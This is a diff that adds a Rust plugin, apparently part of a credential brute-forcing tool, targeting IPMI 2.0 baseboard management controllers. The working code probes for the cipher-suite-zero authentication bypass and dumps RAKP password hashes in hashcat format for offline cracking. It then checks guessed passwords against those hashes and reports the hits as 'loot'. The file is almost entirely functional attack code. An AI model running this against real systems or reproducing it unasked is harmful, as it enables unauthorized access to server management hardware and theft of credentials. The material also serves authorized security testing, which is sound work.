@@ -0,0 +1,220 @@
+use std::collections::HashMap;
+use std::sync::{Arc, RwLock};
+use std::time::Duration;
+
+use async_trait::async_trait;
+use rand::Rng;
+use tokio::net::UdpSocket;
+
+use crate::creds::Credentials;
+use crate::session::{Error, Loot};
+use crate::Plugin;
+use crate::utils::once::OncePerTarget;
+use crate::{utils, Options};
+
+use self::rmcp::*;
+
+pub(crate) mod options;
+mod rmcp;
+
+const MAX_PACKET_SIZE: usize = 1024;
+
+super::manager::register_plugin! {
+    "ipmi" => Ipmi::new()
+}
+
+// send the request and wait for a response with the expected payload type
+async fn exchange(
+    socket: &UdpSocket,
+    payload_type: u8,
+    payload: &[u8],
+    expected: u8,
+    timeout: Duration,
+) -> Result<Vec<u8>, Error> {
+    socket
+        .send(&packet(payload_type, payload))
+        .await
+        .map_err(|e| e.to_string())?;
+
+    let deadline = tokio::time::Instant::now() + timeout;
+    let mut buffer = vec![0u8; MAX_PACKET_SIZE];
+    loop {
+        let size = tokio::time::timeout_at(deadline, socket.recv(&mut buffer))
+            .await
+            .map_err(|_| "no RMCP+ response".to_owned())?
+            .map_err(|e| e.to_string())?;
+        if let Ok((kind, payload)) = parse(&buffer[..size]) {
+            if kind == expected {
+                return Ok(payload.to_vec());
+            }
+        }
+    }
+}
+
+// RAKP message 2 salt and HMAC of a user, None if the user doesn't exist
+type UserHash = Option<(Vec<u8>, Vec<u8>)>;
+
+#[derive(Clone)]
+pub(crate) struct Ipmi {
+    dump_hashes: bool,
+    // targets already checked for cipher suite zero
+    checked: OncePerTarget,
+    // targets accepting cipher suite zero, reported only once
+    cipher_zero: OncePerTarget,
+    // RAKP exchanges by target and user, passwords are verified offline against them
+    hashes: Arc<RwLock<HashMap<String, UserHash>>>,
+}
+
+impl Ipmi {
+    pub fn new() -> Self {
+        Ipmi {
+            dump_hashes: false,
+            checked: OncePerTarget::new(),
+            cipher_zero: OncePerTarget::new(),
+            hashes: Arc::new(RwLock::new(HashMap::new())),
+        }
+    }
+
+    // returns the BMC session id if the session was opened
+    async fn open_session(
+        &self,
+        socket: &UdpSocket,
+        console_id: u32,
+        cipher_zero: bool,
+        timeout: Duration,
+    ) -> Result<Option<u32>, Error> {
+        let response = exchange(
+            socket,
+            PAYLOAD_OPEN_SESSION_REQUEST,
+            &open_session_request(0, console_id, cipher_zero),
+            PAYLOAD_OPEN_SESSION_RESPONSE,
+            timeout,
+        )
+        .await?;
+        let (status, bmc_id) = parse_open_session_response(&response)?;
+        Ok(if status == STATUS_OK {
+            Some(bmc_id)
+        } else {
+            None
+        })
+    }
+
+    async fn rakp(
+        &self,
+        socket: &UdpSocket,
+        username: &str,
+        timeout: Duration,
+    ) -> Result<UserHash, Error> {
+        let console_id: u32 = rand::thread_rng().gen();
+        let console_random: [u8; 16] = rand::thread_rng().gen();
+
+        let bmc_id = self
+            .open_session(socket, console_id, false, timeout)
+            .await?
+            .ok_or_else(|| "the BMC refused to open a RMCP+ session".to_owned())?;
+
+        let response = exchange(
+            socket,
+            PAYLOAD_RAKP1,
+            &rakp1(0, bmc_id, &console_random, username),
+            PAYLOAD_RAKP2,
+            timeout,
+        )
+        .await?;
+        let rakp2 = parse_rakp2(&response)?;
+        match rakp2.status {
+            STATUS_OK => Ok(Some((
+                rakp2_salt(console_id, bmc_id, &console_random, &rakp2, username),
+                rakp2.hmac,
+            ))),
+            STATUS_UNAUTHORIZED_NAME => Ok(None),
+            status => Err(format!("RAKP failed with status 0x{:02x}", status)),
+        }
+    }
+}
+
+#[async_trait]
+impl Plugin for Ipmi {
+    fn description(&self) -> &'static str {
+        "IPMI 2.0 RAKP authentication and hash dumping."
+    }
+
+    fn setup(&mut self, opts: &Options) -> Result<(), Error> {
+        self.dump_hashes = opts.ipmi.ipmi_dump_hashes;
+        Ok(())
+    }
+
+    async fn attempt(
+        &self,
+        creds: &Credentials,
+        timeout: Duration,
+    ) -> Result<Option<Vec<Loot>>, Error> {
+        let address = utils::parse_target_address(&creds.target, 623)?;
+        let socket = utils::net::async_udp_socket(&address).await?;
+        let mut found = vec![];
+
+        // cipher suite zero skips authentication altogether
+        if !self.checked.contains(&address) {
+            let console_id: u32 = rand::thread_rng().gen();
+            match self.open_session(&socket, console_id, true, timeout).await {
+                Ok(session) => {
+                    // marked only once the BMC answered, so transient errors are checked again
+                    self.checked.insert(&address);
+                    if session.is_some() {
+                        if let Some(loot) = self.cipher_zero.report(
+                            &address,
+                            Loot::new(
+                                "ipmi",
+                                &address,
+                                [("cipher_zero".to_owned(), "enabled".to_owned())],
+                            )
+                            .set_partial(),
+                        ) {
+                            found.extend(loot);
+                        }
+                    }
+                }
+                Err(e) => log::debug!("cipher zero check for {} failed: {}", &address, e),
+            }
+        }
+
+        let key = format!("{}/{}", &address, &creds.username);
+        let cached = self.hashes.read().unwrap().get(&key).cloned();
+        let hash = match cached {
+            Some(hash) => hash,
+            None => {
+                let hash = self.rakp(&socket, &creds.username, timeout).await?;
+                self.hashes.write().unwrap().insert(key, hash.clone());
+                if let (true, Some((salt, hmac))) = (self.dump_hashes, &hash) {
+                    found.push(
+                        Loot::new(
+                            "ipmi",
+                            &address,
+                            [
+                                ("username".to_owned(), creds.username.to_owned()),
+                                ("hashcat".to_owned(), hashcat(salt, hmac)),
+                            ],
+                        )
+                        .set_partial(),
+                    );
+                }
+                hash
+            }
+        };
+
+        if let Some((salt, hmac)) = hash {
+            if hmac_sha1(creds.password.as_bytes(), &salt) == hmac {
+                found.push(Loot::new(
+                    "ipmi",
+                    &address,
+                    [
+                        ("username".to_owned(), creds.username.to_owned()),
+                        ("password".to_owned(), creds.password.to_owned()),
+                    ],
+                ));
+            }
+        }
+
+        Ok(if found.is_empty() { None } else { Some(found) })
+    }
+}